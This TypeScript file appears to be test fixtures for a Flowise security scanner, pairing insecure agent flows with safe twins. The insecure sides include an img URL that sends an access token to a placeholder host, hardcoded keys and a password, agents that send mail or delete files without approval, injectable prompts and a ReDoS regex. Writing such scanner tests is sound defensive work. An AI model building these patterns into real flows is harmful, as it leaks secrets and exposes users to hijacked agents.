/** Flowise: memories, crews, models and secrets. */
import type { Json } from '../../../../../app/kernel/json.ts';
import { fakeToken } from '../../../kit/steps.ts';
import { e, n, ollama, st, type Piece } from '../flowise-kit.ts';
import type { Pair } from '../kit.ts';
import { OPENAI, agent, chain, embed, flow, http, llm, mention, part, reply, root, step, tool, withTool } from '../flowise-agents-kit.ts';

export const flowiseMemoriesCrewsAndSecrets: Pair[] = [];
/** An attack and its twin, which differ by one thing. */
const pair = <T>(name: string, rule: string, file: (one: T) => unknown, bad: T, good: T): void => {
  flowiseMemoriesCrewsAndSecrets.push([name, rule, file(bad) as Json, file(good) as Json]);
};
const calc = n('calculator', 'Tools', ['Calculator', 'Tool'], {});
const key = fakeToken('', 32);

// Memory, crews and models.
pair<string>(
  'one memory for all who chat',
  'AI015',
  (sessionId) => {
    const m = n('RedisBackedChatMemory', 'Memory', ['RedisBackedChatMemory', 'BaseMemory'], {
      sessionId,
      memoryKey: 'chat_history',
      credential: 'c4',
    });
    const r = root();
    const t = n('gmail', 'Tools', ['Gmail', 'Tool'], { gmailType: 'messages', messageActions: '["listMessages"]' });
    return flow([ollama, m, r, t], [e(ollama, r, 'model'), e(m, r, 'memory'), e(t, r, 'tools')]);
  },
  'everyone',
  '',
);
pair<Piece>(
  "a forum's words and an agent that mails",
  'AI001',
  (t) => {
    const l = part('cheerioWebScraper', 'Document Loaders', 'Document', { url: 'https://forum.example.org' });
    const v = n('pinecone', 'Vector Stores', ['Pinecone', 'VectorStoreRetriever', 'BaseRetriever'], { pineconeIndex: 'forum' });
    const rt = n('retrieverTool', 'Tools', ['RetrieverTool', 'Tool'], {
      name: 'forum',
      description: 'Searches the forum',
      returnSourceDocuments: true,
    });
    const r = root();
    return flow(
      [ollama, l, embed, v, rt, r, t],
      [e(l, v, 'document'), e(embed, v, 'embeddings'), e(v, rt, 'retriever'), e(rt, r, 'tools'), e(ollama, r, 'model'), e(t, r, 'tools')],
    );
  },
  n('gmail', 'Tools', ['Gmail', 'Tool'], { gmailType: 'messages', messageActions: '["sendMessage"]' }),
  calc,
);
pair<string>(
  'a worker of a crew runs code',
  'AI001',
  (name) => {
    const s = n('supervisor', 'Multi Agents', ['Supervisor'], {
      supervisorName: 'Boss',
      supervisorPrompt: 'You lead {team_members}',
      recursionLimit: 20,
    });
    const w = n('worker', 'Multi Agents', ['Worker'], {
      workerName: 'Coder',
      workerPrompt: 'You do the work',
      promptValues: '',
      maxIterations: 4,
    });
    const t = n(name, 'Tools', [name, 'Tool'], {});
    return flow([ollama, s, w, t], [e(ollama, s, 'model'), e(s, w, 'supervisor'), e(t, w, 'tools')]);
  },
  'codeInterpreterE2B',
  'calculator',
);
pair<boolean>(
  'a step of a row that sends with no person',
  'AI005',
  (interrupt) => {
    const s = n('seqStart', 'Sequential Agents', ['Start'], {});
    const a = n('seqAgent', 'Sequential Agents', ['Agent'], {
      agentName: 'Desk',
      systemMessagePrompt: 'You answer mail',
      interrupt,
      approvalPrompt: 'Run {tools}?',
      maxIterations: 4,
    });
    const end = n('seqEnd', 'Sequential Agents', ['End'], {});
    const t = n('gmail', 'Tools', ['Gmail', 'Tool'], { gmailType: 'messages', messageActions: '["sendMessage"]' });
    return flow([ollama, s, a, end, t], [e(ollama, s, 'model'), e(s, a, 'sequentialNode'), e(t, a, 'tools'), e(a, end, 'sequentialNode')]);
  },
  false,
  true,
);
pair<string>(
  'a row whose state holds a key',
  'CN007',
  (defaultValue) => {
    const s = n('seqStart', 'Sequential Agents', ['Start'], {});
    const state = n('seqState', 'Sequential Agents', ['State'], {
      stateMemory: 'stateMemoryUI',
      stateMemoryUI: JSON.stringify([{ key: 'apiKey', type: 'Replace', defaultValue, actions: '', id: 1 }]),
    });
    return flow([ollama, s, state], [e(ollama, s, 'model'), e(state, s, 'state')]);
  },
  key,
  '',
);
pair<string>(
  'orders out of the state of a row',
  'AI002',
  (value) => {
    const s = n('seqStart', 'Sequential Agents', ['Start'], {});
    const a = n('seqLLMNode', 'Sequential Agents', ['LLMNode'], {
      llmNodeName: 'Clerk',
      systemMessagePrompt: 'You are {persona}',
      humanMessagePrompt: 'Hi',
      promptValues: JSON.stringify({ persona: value }),
    });
    return flow([ollama, s, a], [e(ollama, s, 'model'), e(s, a, 'sequentialNode')]);
  },
  '{{question}}',
  'kind',
);
pair<string>(
  'a model by a name that moves',
  'AI009',
  (modelName) => chain(st, llm(mention('question'), false, { llmModel: 'chatOpenAI', llmModelConfig: { ...OPENAI, modelName } })),
  'chatgpt-4o-latest',
  'gpt-4o-2024-08-06',
);
pair<string>(
  'a graph that a model asks as it likes',
  'AI003',
  (name) => {
    const c = n(name, 'Chains', [name], {});
    const g = n('neo4j', 'Graph', ['Neo4j'], { credential: 'c5' });
    return flow([ollama, c, g], [e(ollama, c, 'model'), e(g, c, 'graph')]);
  },
  'graphCypherQAChain',
  'conversationChain',
);
pair<string>(
  'a table that a model writes code for',
  'AI003',
  (name) => {
    const c = n(
      name,
      'Agents',
      ['AgentExecutor'],
      name === 'csvAgent' ? { csvFile: 'data:text/csv;base64,YSxiCjEsMgo=,filename:x.csv', systemMessagePrompt: '' } : {},
    );
    return flow([ollama, c], [e(ollama, c, 'model')]);
  },
  'csvAgent',
  'conversationChain',
);
pair<string>(
  'an agent clears files away',
  'AI005',
  (actions) => chain(st, agent([tool('googleDriveTool', { driveType: 'file', fileActions: actions })])),
  '["listFiles","deleteFile"]',
  '["listFiles"]',
);
// Secrets.
pair<string>(
  'a key in the code of a tool',
  'CN007',
  (v) =>
    withTool(
      n('customTool', 'Tools', ['CustomTool', 'Tool'], {
        selectedTool: 'x',
        customToolName: 'rates',
        customToolDesc: 'gives rates',
        customToolSchema: '[]',
        customToolFunc: `const headers = { 'x-api-key': ${v} };\nreturn JSON.stringify(headers).length;`,
      }),
    ),
  `'${key}'`,
  '$vars.ratesKey',
);
pair<string>(
  'a key in a text that is loaded',
  'CN007',
  (line) => {
    const l = part('plainText', 'Document Loaders', 'Document', { text: `Guide for the desk\n${line}` });
    const v = n('memoryVectorStore', 'Vector Stores', ['Memory', 'VectorStoreRetriever'], {});
    return flow([l, embed, v], [e(l, v, 'document'), e(embed, v, 'embeddings')]);
  },
  `Log in with ${fakeToken('ghp_', 36)}`,
  'Log in as usual',
);
pair<string>(
  'a password of the list of records',
  'CN007',
  (password) => {
    const r = n('postgresRecordManager', 'Record Manager', ['Postgres RecordManager'], {
      host: 'db.example.com',
      database: 'shop',
      tableName: 'upsertion_records',
      additionalConfig: JSON.stringify({ user: 'desk', password }),
      cleanup: 'incremental',
    });
    const v = n('pinecone', 'Vector Stores', ['Pinecone', 'VectorStoreRetriever'], { pineconeIndex: 'x' });
    return flow([r, embed, v], [e(embed, v, 'embeddings'), e(r, v, 'recordManager')]);
  },
  'Kq7vR2mX9tLp!',
  '',
);
pair<string>(
  'a setting in an address',
  'DF003',
  (url) => chain(st, http({ url })),
  '<p>https://api.example.com/x?key={{ $vars.API_KEY }}</p>',
  '<p>https://api.example.com/x?lang={{ $vars.LANGUAGE }}</p>',
);
pair<string>(
  'a picture that carries a token',
  'DF003',
  (name) => {
    const s = step('startAgentflow', 'Start', {
      startInputType: 'chatInput',
      startState: [
        { key: 'token', value: '' },
        { key: 'colour', value: '' },
      ],
    });
    const f = step('customFunctionAgentflow', 'CustomFunction', {
      customFunctionInputVariables: [],
      customFunctionJavascriptFunction: 'return { t: $vars.ACCESS_TOKEN, c: 1 };',
      customFunctionUpdateState: [
        { key: 'token', value: '{{ $vars.ACCESS_TOKEN }}' },
        { key: 'colour', value: 'blue' },
      ],
    });
    return chain(s, f, reply(`<p><img src="https://px.example.net/o.png?d={{ $flow.state.${name} }}"></p>`));
  },
  'token',
  'colour',
);
pair<string>(
  'slow on a long text',
  'SC005',
  (test) =>
    flow(
      [
        n('ifElseFunction', 'Utilities', ['IfElseFunction', 'Utilities'], {
          functionInputVariables: '{"t":"{{question}}"}',
          ifElseFunctionName: 'Check',
          ifFunction: `if (${test}.test($t)) { return $t; }`,
          elseFunction: 'return false;',
        }),
      ],
      [],
    ),
  '/^(a+)+$/',
  '/^a+$/',
);
